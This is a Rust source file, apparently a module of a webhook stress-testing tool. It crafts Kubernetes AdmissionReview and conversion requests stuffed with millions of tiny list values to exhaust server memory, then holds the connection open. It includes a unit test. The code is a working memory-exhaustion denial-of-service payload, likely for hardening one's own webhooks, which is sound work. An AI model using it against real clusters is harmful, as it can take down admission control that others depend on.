//! Sends reviews with very many small values.

use super::{Attack, LARGEST, conversion};
use crate::{aim::Aim, requests::Requests, target::Target};
use anyhow::Result;
use futures::FutureExt as _;
use tokio::io::AsyncWriteExt;

pub(super) const ATTACK: Attack = Attack {
    name: "small-values",
    about: "Sends reviews with up to millions of small values",
    targets: &[Target::Webhooks],
    attackers: 8,
    once: |aim| once(aim).boxed(),
};

async fn once(aim: Aim) -> Result<()> {
    let mut stream = aim.connect().await?;
    let post = aim.requests.any_post();
    let is_conversion = post.starts_with("POST /convert ");
    let (field, value) = if is_conversion { CONVERTED } else { REVIEWED[fastrand::usize(..REVIEWED.len())] };
    // A server refuses more values than it has memory for, so each order of magnitude has to be tried.
    let values = (fastrand::usize(LARGEST / 2..LARGEST - 1024) >> fastrand::u32(..9)) / (value.len() + 1);
    let list = format!("[{value}{}]", format!(",{value}").repeat(values));
    let body = if is_conversion { conversion(&list) } else { review(field, &list) };
    stream.write_all(Requests::with_body(&post, &body).as_bytes()).await?;
    aim.hold(stream).await;
    Ok(())
}

/// The objects have the wanted version, so that the server reads the whole list.
const CONVERTED: (&str, &str) = ("objects", "{\"apiVersion\":\"a/v1\"}");
/// Lists of our kinds, and of every object, whose elements need more memory than text.
const REVIEWED: [(&str, &str); 8] = [
    ("spec.numbers", "0"),
    ("spec.extraArgs", "\"\""),
    ("spec.volumes", "{}"),
    ("spec.topologySpreadConstraints", "{}"),
    ("spec.schedules", "[]"),
    ("metadata.finalizers", "\"\""),
    ("metadata.ownerReferences", "{}"),
    ("metadata.managedFields", "{}"),
];

fn review(field: &str, list: &str) -> String {
    let (part, field) = field.split_once('.').unwrap_or_default();
    let of = |name: &str| if part == name { format!("\"{field}\":{list}") } else { String::new() };
    format!(
        "{{\"apiVersion\":\"admission.k8s.io/v1\",\"kind\":\"AdmissionReview\",\"request\":{{\"uid\":\"a\",\
         \"object\":{{\"apiVersion\":\"a/v1\",\"kind\":\"A\",\"metadata\":{{{}}},\"spec\":{{{}}}}}}}}}",
        of("metadata"),
        of("spec")
    )
}

#[cfg(test)]
mod tests {
    use serde_json::Value;

    use super::*;

    #[test]
    fn servers_read_the_lists() {
        for (field, value) in REVIEWED {
            let body: Value = serde_json::from_str(&review(field, &format!("[{value}]"))).expect("JSON");
            let object = &body["request"]["object"];
            let list = &object.pointer(&format!("/{}", field.replace('.', "/"))).expect("the field");
            assert_eq!((&body["kind"], list.as_array().map(Vec::len)), (&"AdmissionReview".into(), Some(1)), "{field}");
        }
        let (_, value) = CONVERTED;
        let body: Value = serde_json::from_str(&conversion(&format!("[{value}]"))).expect("JSON");
        assert_eq!(body["request"]["objects"][0]["apiVersion"], body["request"]["desiredAPIVersion"]);
    }
}
